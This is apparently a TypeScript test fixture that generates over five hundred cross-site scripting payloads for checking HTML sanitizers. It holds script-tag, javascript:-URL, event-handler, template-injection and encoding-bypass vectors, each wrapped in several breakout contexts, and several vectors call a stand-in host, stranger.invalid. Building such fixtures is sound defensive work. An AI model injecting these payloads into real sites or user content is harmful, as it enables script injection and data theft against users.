/** Leaves a mark where it runs, and calls a stranger. */
const CODE = "window.wasRun=1;fetch('//stranger.invalid/ran')";
const ATTRIBUTE = CODE.replaceAll("'", "&#39;");

const HANDLERS = ["onload", "onerror", "onfocus", "onmouseover", "onanimationstart", "ontoggle"];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe",
  "x-y tabindex=1",
];

const VECTORS: readonly string[] = [
  `<script>${CODE}</script>`,
  "<script src=//stranger.invalid/a.js></script>",
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script/x>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<svg><script>${CODE}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${ATTRIBUTE}">`,
  `<noscript><p title="</noscript><img src=x onerror=&quot;${ATTRIBUTE}&quot;>">`,
  `<template><script>${CODE}</script></template>`,
  `<iframe srcdoc="<script>${ATTRIBUTE}</script>"></iframe>`,
  `<iframe src="javascript:${ATTRIBUTE}"></iframe>`,
  `<object data="javascript:${ATTRIBUTE}"></object>`,
  `<embed src="data:text/html,<script>${ATTRIBUTE}</script>">`,
  `<a href="javascript:${ATTRIBUTE}">hier</a>`,
  `<a href="java&#10;script:${ATTRIBUTE}">hier</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cud2FzUnVuPTE8L3NjcmlwdD4=">hier</a>`,
  `<form action="javascript:${ATTRIBUTE}"><button>hier</button></form>`,
  `<button formaction="javascript:${ATTRIBUTE}">hier</button>`,
  `<meta http-equiv=refresh content="0;url=//stranger.invalid/">`,
  `<base href="//stranger.invalid/">`,
  `<link rel=stylesheet href="//stranger.invalid/a.css">`,
  `<style>@import '//stranger.invalid/a.css';</style>`,
  `<div style="background:url(//stranger.invalid/a.png)">`,
  `<img src="//stranger.invalid/a.png">`,
  `<img srcset="//stranger.invalid/a.png 1x">`,
  `<video poster="//stranger.invalid/a.png">`,
  `<svg><image href="//stranger.invalid/a.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ATTRIBUTE}</script></svg>#x"/></svg>`,
  `<svg><animate onbegin="${ATTRIBUTE}" attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${ATTRIBUTE}"/><text y=9>x</text></a></svg>`,
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}//`,
  `[hier](javascript:${CODE})`,
  `![x](x"onerror="${ATTRIBUTE})`,
  `https://example.com/"onmouseover="${ATTRIBUTE}`,
  `https://example.com/<script>${CODE}</script>`,
  `{{constructor.constructor('${CODE.replaceAll("'", "\\'")}')()}}`,
  `$${"{window.wasRun=1}"}`,
  "<%= window.wasRun=1 %>",
  `#{window.wasRun=1}`,
  `\${{window.wasRun=1}}`,
  `<x-element data-x='{"__html":"<img src=x onerror=${ATTRIBUTE}>"}'>`,
  `{"__html":"<img src=x onerror=window.wasRun=1>"}`,
  `<!--><img src=x onerror="${ATTRIBUTE}">-->`,
  `<![CDATA[<script>${CODE}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${CODE}</script>`,
  `\u2028<script>${CODE}</script>\u2029`,
  `<img src=x onerror\u0009="${ATTRIBUTE}">`,
  `＜script＞${CODE}＜/script＞`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `%3Cscript%3E${encodeURIComponent(CODE)}%3C/script%3E`,
  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="${ATTRIBUTE}">`)),
];

/** What stands around it decides into what it breaks. */
const SURROUNDINGS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}<!--`,
  (vector) => `</script>${vector}`,
  (vector) => `</textarea></title></style>${vector}`,
];

/** More than five hundred, each different. */
export function scriptPayloads(): string[] {
  const all = SURROUNDINGS.flatMap((around) => VECTORS.map((vector) => around(vector)));
  return [...new Set(all)];
}
